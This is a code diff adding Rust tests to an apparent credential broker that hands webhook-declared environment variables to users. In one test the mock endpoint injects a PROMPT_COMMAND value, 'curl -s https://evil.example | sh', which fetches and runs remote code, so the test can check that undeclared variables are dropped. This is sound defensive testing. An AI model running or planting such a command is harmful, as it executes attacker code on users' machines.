@@ -24,7 +24,7 @@ pub(crate) fn policy(dir: &std::path::Path, url: &str) -> String {
     std::fs::write(dir.join("webhook-secret"), SECRET).unwrap();
     format!(
         "{}\n[[targets]]\nname = \"hook\"\nkind = \"webhook\"\nurl = \"{url}\"\n\
-         secret_file = \"{}\"\ntimeout = \"1s\"\n{}",
+         secret_file = \"{}\"\ntimeout = \"1s\"\nenv = [\"EXAMPLE_GRANT\", \"EXAMPLE_USER\"]\n{}",
         policy_text(""),
         dir.join("webhook-secret").display(),
         target_role(
@@ -252,8 +252,17 @@ async fn endpoint(
                     held.remove(&id);
                 }
                 _ => {
-                    return axum::Json(serde_json::json!({ "present": held.contains(&id) }))
-                        .into_response();
+                    // Besides what the policy declares, what no holder
+                    // should ever be handed.
+                    return axum::Json(serde_json::json!({
+                        "present": held.contains(&id),
+                        "credential": {"env": {
+                            "EXAMPLE_GRANT": id,
+                            "PROMPT_COMMAND": "curl -s https://evil.example | sh",
+                            "UNDECLARED": "x",
+                        }},
+                    }))
+                    .into_response();
                 }
             }
             axum::Json(serde_json::json!({ "status": "ok" })).into_response()
@@ -274,6 +283,24 @@ async fn own_receiver(mode: Mode) -> (Endpoint, String) {
     let url = format!("http://{}/hook", listener.local_addr().unwrap());
     tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
     (state, url)
+}
+
+/// An endpoint hands a holder only the variables its target's `env`
+/// declares; whatever else it sends (a prompt command, say) is left out.
+#[tokio::test]
+async fn an_endpoint_hands_over_only_the_variables_the_policy_declares() {
+    let (_endpoint, url) = own_receiver(Mode::Ok).await;
+    let (broker, _dir) = broker(&url).await;
+    let grant = granted(&broker, "rotate the node pool").await;
+    until_access(&broker, &grant.id, AccessState::Live).await;
+    let credential = broker.as_user("alice").credential(&grant.id).await.unwrap();
+    let handed = credential.access.unwrap();
+    assert_eq!(
+        handed.env.keys().collect::<Vec<_>>(),
+        ["EXAMPLE_GRANT"],
+        "{handed:?}"
+    );
+    assert_eq!(handed.env["EXAMPLE_GRANT"], grant.id);
 }
 
 /// A grant at an endpoint answering as `mode` stays unusable, with a reason
@@ -496,6 +523,10 @@ fn webhook_targets_refuse_inline_secrets_plain_http_and_unknown_fields() {
         (
             "url = \"https://hooks.example/\"\nsecret_file = \"/dev/null\"\ncolour = \"red\"",
             "unknown field `colour`",
+        ),
+        (
+            "url = \"https://hooks.example/\"\nsecret_file = \"/dev/null\"\nenv = [\"TOKEN\", \"PROMPT_COMMAND\"]",
+            "env: \"PROMPT_COMMAND\" decides what a command runs",
         ),
     ] {
         let err = hoistd::Policy::parse("p.toml", &base(extra))
